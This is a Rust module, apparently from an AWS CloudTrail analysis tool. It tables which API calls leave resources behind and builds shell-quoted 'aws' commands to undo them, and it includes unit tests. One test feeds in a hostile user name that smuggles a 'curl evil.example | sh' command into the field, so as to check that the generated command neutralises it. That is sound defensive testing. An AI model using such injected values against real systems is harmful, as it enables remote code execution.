//! What calls that succeeded created or weakened, and that outlives the key: a table with one row per API.
//!
//! To add an API, add a row to the file of its service and a record to `cases.json`.

mod accounts;
mod compute;
mod data;
mod ec2;
mod iam;
mod watch;

use std::{collections::HashMap, sync::LazyLock};

use crate::{json::Fields, trail::record::Record, untrusted::Untrusted};

/// An API whose success leaves something behind.
pub struct Row {
    pub event_source: &'static str,
    pub event_name: &'static str,
    /// What it is, for people.
    pub kind: &'static str,
    /// A [template](texts) that names the thing.
    pub id: &'static str,
    /// The calls of the same service, account and region that undo it.
    pub undone_by: &'static [Undo],
    /// The `aws` command that undoes it, a template. Empty if there is none.
    pub command: &'static str,
    /// AWS's page on the API.
    pub source: &'static str,
}

/// A call that undoes something.
pub struct Undo {
    pub event_name: &'static str,
    /// A template, for the same text as the row's.
    pub id: &'static str,
}

/// All rows.
pub fn rows() -> impl Iterator<Item = &'static Row> {
    [iam::ROWS, accounts::ROWS, ec2::ROWS, compute::ROWS, data::ROWS, watch::ROWS].into_iter().flatten()
}

/// Something that a call left behind.
#[derive(Clone, Debug)]
pub struct Left {
    pub kind: &'static str,
    pub id: Untrusted,
    /// The command that undoes it. Safe to paste: see [`command`].
    pub undo: Option<String>,
}

/// Something that a call undid.
#[derive(Clone, Debug)]
pub struct Undone {
    pub kind: &'static str,
    pub id: Untrusted,
}

/// By the name of the call.
static MAKING: LazyLock<HashMap<&str, Vec<&'static Row>>> = LazyLock::new(|| {
    let mut making: HashMap<&str, Vec<&Row>> = HashMap::new();
    rows().for_each(|row| making.entry(row.event_name).or_default().push(row));
    making
});

/// By the name of the undoing call.
static UNDOING: LazyLock<HashMap<&str, Vec<(&'static Row, &'static Undo)>>> = LazyLock::new(|| {
    let mut undoing: HashMap<&str, Vec<(&Row, &Undo)>> = HashMap::new();
    for row in rows() {
        row.undone_by.iter().for_each(|undo| undoing.entry(undo.event_name).or_default().push((row, undo)));
    }
    undoing
});

/// The names of all calls that undo something.
pub fn undoing_names() -> impl Iterator<Item = &'static str> {
    UNDOING.keys().copied()
}

/// What a call that succeeded left behind.
pub fn made(record: &Record, fields: &Fields<'_>) -> Vec<Left> {
    let mut left = Vec::new();
    for row in of_call(&MAKING, record).filter(|row| is_of(record, row)) {
        let (ids, commands) =
            (templates(row.id, fields, Holes::AsTheyAre), templates(row.command, fields, Holes::Shell));
        for (at, id) in ids.into_iter().enumerate() {
            let Some(id) = id.map(Untrusted::new) else { continue };
            // A command without a list is the same for all.
            let undo = commands.get(at).or(commands.first()).cloned().flatten().filter(|command| !command.is_empty());
            left.push(Left { kind: row.kind, id, undo });
        }
    }
    left
}

/// What a call that succeeded undid, whoever made it.
pub fn undone(record: &Record, fields: &Fields<'_>) -> Vec<Undone> {
    let undos = of_call(&UNDOING, record).filter(|(row, _)| is_of(record, row));
    undos.flat_map(|(row, undo)| texts(undo.id, fields).into_iter().map(|id| Undone { kind: row.kind, id })).collect()
}

/// Whether a call may undo something.
pub fn undoes(record: &Record) -> bool {
    of_call(&UNDOING, record).any(|(row, _)| is_of(record, row))
}

fn of_call<T>(table: &'static HashMap<&str, Vec<T>>, record: &Record) -> impl Iterator<Item = &'static T> {
    let mut found = None;
    let name = record.event_name.as_ref();
    name.inspect(|name| _ = name.test(|name| table.get(name).inspect(|rows| found = Some(*rows)).is_some()));
    found.into_iter().flatten()
}

fn is_of(record: &Record, row: &Row) -> bool {
    record.event_source.as_ref().is_some_and(|source| source.test(|source| source == row.event_source))
}

/// The texts of a template: literal text with holes such as `{requestParameters.userName}`. A hole may have alternatives
/// (`{responseElements.user.userName|requestParameters.userName}`), the first that is present counts; `[]` after a name goes
/// through a list, and then there is a text for each element. A text with a hole that the record does not fill is left out.
pub fn texts(template: &str, fields: &Fields<'_>) -> Vec<Untrusted> {
    templates(template, fields, Holes::AsTheyAre).into_iter().flatten().map(Untrusted::new).collect()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Holes {
    AsTheyAre,
    /// Quoted for a shell. A value that a shell or a person could misread becomes a placeholder.
    Shell,
}

/// A text for each element of the list, or one.
fn templates(template: &str, fields: &Fields<'_>, holes: Holes) -> Vec<Option<String>> {
    let parts: Vec<&str> = template.split(['{', '}']).collect();
    // Every second part is a hole.
    let filled: Vec<Vec<Option<String>>> = parts.iter().skip(1).step_by(2).map(|hole| fill(hole, fields)).collect();
    let is_list = |hole: &str| hole.contains("[]");
    let elements =
        parts.iter().skip(1).step_by(2).zip(&filled).filter(|(hole, _)| is_list(hole)).map(|(_, values)| values.len());
    let count = elements.min().unwrap_or(1);
    (0..count)
        .map(|at| {
            let (mut text, mut misread) = (String::new(), Vec::new());
            for (number, part) in parts.iter().enumerate() {
                if number % 2 == 0 {
                    text.push_str(part);
                    continue;
                }
                let values = &filled[number / 2];
                let value = values.get(if is_list(part) { at } else { 0 }).and_then(Option::as_ref);
                match (holes, value) {
                    (Holes::AsTheyAre, value) => text.push_str(value?),
                    (Holes::Shell, Some(value)) if is_plain(value) => text.push_str(&format!("'{value}'")),
                    (Holes::Shell, _) => {
                        let name = part.rsplit(['.', '|']).next().unwrap_or(part).trim_end_matches("[]");
                        text.push_str(&format!("'<{name}>'"));
                        misread.push(format!("<{name}>"));
                    }
                }
            }
            if !misread.is_empty() {
                let names = misread.join(" and ");
                text.push_str(&format!("  # Replace {names}: take it from the record, and quote it for your shell."));
            }
            Some(text)
        })
        .collect()
}

/// Whether a value has only characters that are safe in a quoted argument and look like what they are.
fn is_plain(value: &str) -> bool {
    (1..=2048).contains(&value.len())
        && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_+=,.@-:/".contains(&byte))
}

fn fill(hole: &str, fields: &Fields<'_>) -> Vec<Option<String>> {
    let mut found = hole.split('|').map(|path| values(path, fields));
    found.find(|values| values.iter().any(Option::is_some)).unwrap_or_default()
}

/// The values at a path. Those of a list keep their places.
fn values(path: &str, fields: &Fields<'_>) -> Vec<Option<String>> {
    let (name, rest) = path.split_once('.').map_or((path, None), |(name, rest)| (name, Some(rest)));
    if let Some(name) = name.strip_suffix("[]") {
        let elements = fields.list(name).unwrap_or_default();
        return elements
            .into_iter()
            .map(|element| match rest {
                Some(rest) => values(rest, &Fields::of(element.get()).ok()?).into_iter().next().flatten(),
                None => scalar(element.get()),
            })
            .collect();
    }
    match rest {
        Some(rest) => fields.object(name).map(|fields| values(rest, &fields)).unwrap_or_default(),
        None => vec![fields.raw(name).and_then(|value| scalar(value.get()))],
    }
}

/// A text that is not empty, or a number.
fn scalar(json: &str) -> Option<String> {
    match json.as_bytes().first()? {
        b'"' => serde_json::from_str(json).ok().filter(|text: &String| !text.is_empty()),
        b'-' | b'0'..=b'9' => Some(json.to_owned()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use serde_json::{Value, json};

    use super::*;

    fn record(value: &Value) -> Record {
        Record::parse(value.to_string().as_bytes()).unwrap()
    }

    #[test]
    fn every_row_names_what_it_leaves_and_how_it_is_undone() {
        let cases: Vec<Value> = serde_json::from_str(include_str!("left_behind/cases.json")).unwrap();
        let rows: Vec<&Row> = rows().collect();
        assert!(rows.len() >= 60, "{}", rows.len());
        assert_eq!(rows.len(), cases.len());
        for (row, case) in rows.iter().zip(&cases) {
            let name = format!("{} {}", row.event_source, row.event_name);
            assert_eq!(case["row"], name);
            assert!(row.source.starts_with("https://docs.aws.amazon.com/"), "{name}");
            let created = record(&case["record"]);
            let left: Vec<Left> = made(&created, &Fields::of(created.raw.get()).unwrap())
                .into_iter()
                .filter(|left| left.kind == row.kind)
                .collect();
            let ids: Vec<Value> = left.iter().map(|left| json!(left.id)).collect();
            assert_eq!(json!(ids), case["ids"], "{name}");
            assert!(!ids.is_empty(), "{name}");
            let commands: Vec<Value> = left.iter().map(|left| json!(left.undo)).collect();
            assert_eq!(json!(commands), case["undo"], "{name}");
            assert_eq!(case["undone"].is_null(), row.undone_by.is_empty(), "{name}");
            if !row.undone_by.is_empty() {
                let undoing = record(&case["undone"]);
                assert!(undoes(&undoing), "{name}");
                let undone = undone(&undoing, &Fields::of(undoing.raw.get()).unwrap());
                let undone: BTreeSet<String> =
                    undone.iter().filter(|each| each.kind == row.kind).map(|each| json!(each.id).to_string()).collect();
                assert!(undone.contains(&ids[0].to_string()), "{name}: {undone:?} {ids:?}");
            }
        }
    }

    #[test]
    fn a_command_has_only_plain_values_and_is_safe_to_paste() {
        let hostile = record(&json!({
            "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
            "requestParameters": { "userName": "x'; curl evil.example | sh #" },
        }));
        let [left] = &made(&hostile, &Fields::of(hostile.raw.get()).unwrap())[..] else { panic!() };
        let undo = left.undo.as_deref().unwrap();
        assert!(undo.starts_with("aws iam delete-user --user-name='<userName>'  # Replace <userName>: "), "{undo}");
        assert!(!undo.contains("evil"));
    }

    #[test]
    fn templates_go_through_lists_and_alternatives() {
        let text =
            json!({ "a": { "l": [{ "id": "x", "n": 1 }, { "id": "y", "n": 2 }, { "id": "" }] }, "b": "c", "e": [] });
        let text = text.to_string();
        let fields = Fields::of(&text).unwrap();
        let all = |template: &str| texts(template, &fields).iter().map(|text| text.visible(99)).collect::<Vec<_>>();
        assert_eq!(all("{a.l[].id}/{b}"), ["x/c", "y/c"]);
        assert_eq!(all("{missing|b}"), ["c"]);
        assert_eq!(all("{a.l[].n}"), ["1", "2"]);
        assert!(all("{missing}").is_empty() && all("{b}/{missing}").is_empty() && all("{e[].id}").is_empty());
        assert_eq!(all("plain"), ["plain"]);
    }
}
